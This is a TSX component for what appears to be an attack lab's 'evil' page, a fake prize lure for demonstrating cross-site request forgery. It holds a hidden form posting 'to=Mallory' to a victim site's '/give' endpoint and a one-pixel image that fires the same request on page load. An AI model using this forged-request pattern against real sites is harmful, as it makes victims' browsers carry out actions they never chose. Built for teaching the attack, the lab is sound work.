import type { Run } from '../../lab/run.ts'

/** The page of evil.localhost. It runs no script: a form and an image are enough. */
export function EvilPage({ run, style }: { run: Run; style: string }) {
  const address = `${run.place.origin}${run.path}/give`
  return (
    <html lang="en">
      <head>
        <meta charset="utf-8" />
        <meta name="viewport" content="width=device-width, initial-scale=1" />
        <title>You have won a coat!</title>
        <link rel="stylesheet" href={style} />
      </head>
      <body class="evil">
        <main>
          <h1>You have won a coat!</h1>
          <p>Mink, as good as new. One press, and it is yours.</p>
          <form method="post" action={address}>
            <input type="hidden" name="to" value="Mallory" />
            <button type="submit">Claim my prize</button>
          </form>
          <img src={`${address}?to=Mallory`} alt="" width="1" height="1" />
          <p class="note">
            This is the attack lab’s evil page, on another site than the cloakroom. The button belongs to a form that is
            sent to <code>{address}</code>; an image on this page has asked the same address already.
          </p>
        </main>
      </body>
    </html>
  )
}
